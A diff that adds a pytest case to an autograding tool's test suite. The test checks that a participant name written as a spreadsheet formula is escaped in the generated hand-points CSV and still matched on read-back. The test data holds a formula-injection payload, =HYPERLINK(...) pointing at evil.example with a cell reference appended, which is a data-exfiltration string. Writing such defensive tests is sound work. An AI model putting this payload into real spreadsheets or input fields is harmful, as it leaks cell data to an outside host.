@@ -269,3 +269,15 @@ def test_a_pdf_only_upload_is_summarised_as_no_notebook(tmp_path, capsys):
     _say_filled(Path("w.csv"), lms.FillReport(filled=["4711"], untouched=["4714", "4715"]), got)
     assert "1 row(s) filled, 2 left as they were (1 without a submission, 1 with no notebook: 4714 " \
         "(uploaded: abgabe.pdf))" in capsys.readouterr().out  # fmt: skip
+
+
+def test_a_participant_named_like_a_formula_is_inert_in_the_points_file_and_still_found(tmp_path):
+    grader = grade.Autograder.load(_autograder(tmp_path))
+    evil = '=HYPERLINK("http://evil.example?"&C2,"x")'
+    res = grade.SubmissionResult(evil, NAME, tmp_path / "-1+1.ipynb")
+    handgrade.write_hand_pages([res], grader, tmp_path / "grades")
+    text = handgrade.hand_points_path(tmp_path / "grades", NAME).read_text(encoding="utf-8")
+    assert text.splitlines()[1] == '"\'=HYPERLINK(""http://evil.example?""&C2,""x"")","\'-1+1.ipynb",'
+    filled = tmp_path / "p.csv"
+    filled.write_text(text.replace('.ipynb",', '.ipynb",1.5'), encoding="utf-8")
+    assert handgrade.read_hand_points(filled, grader, [evil]).points == {evil: {"q1_3": 1.5}}
